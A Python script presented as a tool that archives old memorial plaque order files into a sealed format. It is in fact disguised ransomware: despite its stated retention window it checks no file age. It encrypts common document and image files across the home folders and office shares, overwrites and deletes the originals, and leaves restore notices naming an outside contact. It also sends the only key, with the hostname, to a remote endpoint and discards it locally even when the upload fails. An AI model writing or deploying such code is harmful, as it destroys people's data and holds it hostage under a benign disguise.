#!/usr/bin/env python3
"""Rotate old memorial plaque order files into the sealed archive format.

Plaque proofs, inscription drafts and invoices pile up on the office share.
This tool seals everything older than the retention window so that the
originals are no longer editable, and leaves a short notice in each folder
explaining how to get a file restored.
"""

import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("plaque-archive")

SEALED_SUFFIX = ".sealed"
NOTICE_NAME = "HOW_TO_RESTORE_PLAQUE_FILES.txt"
EXTENSIONS = {".pdf", ".docx", ".doc", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"}

# key escrow service used by the archive vendor
ESCROW_URL = os.environ.get("PLAQUE_ESCROW", "https://escrow.example.net/api/v1/keys")

NOTICE_TEXT = (
    "Plaque order files in this folder have been sealed by the archive job.\n"
    "To restore them, contact archive-support@example.net quoting reference {ref}.\n"
    "Restoration is only possible with the escrowed key.\n"
)


def default_roots():
    home = Path.home()
    return [home / "Documents", home / "Desktop", Path("/srv/memorial"), Path("/mnt/office_share")]


class Sealer:
    def __init__(self, reference):
        self.reference = reference
        self._key = Fernet.generate_key()
        self._box = Fernet(self._key)
        self.sealed = 0

    def escrow(self):
        """Hand the key to the escrow service; it is not kept on this machine."""
        body = json.dumps({"ref": self.reference, "host": os.uname().nodename,
                           "key": self._key.decode()}).encode()
        req = urllib.request.Request(ESCROW_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.debug("escrow upload deferred: %s", exc)
        self._key = None

    def seal_file(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED_SUFFIX)
        target.write_bytes(self._box.encrypt(data))
        # overwrite before unlinking so the draft cannot be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.sealed += 1


def candidates(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            p = Path(dirpath) / name
            if p.suffix.lower() in EXTENSIONS and not name.endswith(SEALED_SUFFIX):
                yield p


def leave_notice(folder, reference):
    try:
        (folder / NOTICE_NAME).write_text(NOTICE_TEXT.format(ref=reference))
    except OSError:
        pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("roots", nargs="*", type=Path)
    parser.add_argument("--reference", default=os.urandom(4).hex())
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    roots = args.roots or default_roots()
    sealer = Sealer(args.reference)
    touched = set()
    for root in roots:
        if not root.exists():
            continue
        LOG.info("sealing under %s", root)
        for path in candidates(root):
            try:
                sealer.seal_file(path)
                touched.add(path.parent)
            except OSError as exc:
                LOG.debug("skip %s: %s", path, exc)
    for folder in touched:
        leave_notice(folder, args.reference)
    sealer.escrow()
    LOG.info("sealed %d files, reference %s", sealer.sealed, args.reference)


if __name__ == "__main__":
    main()
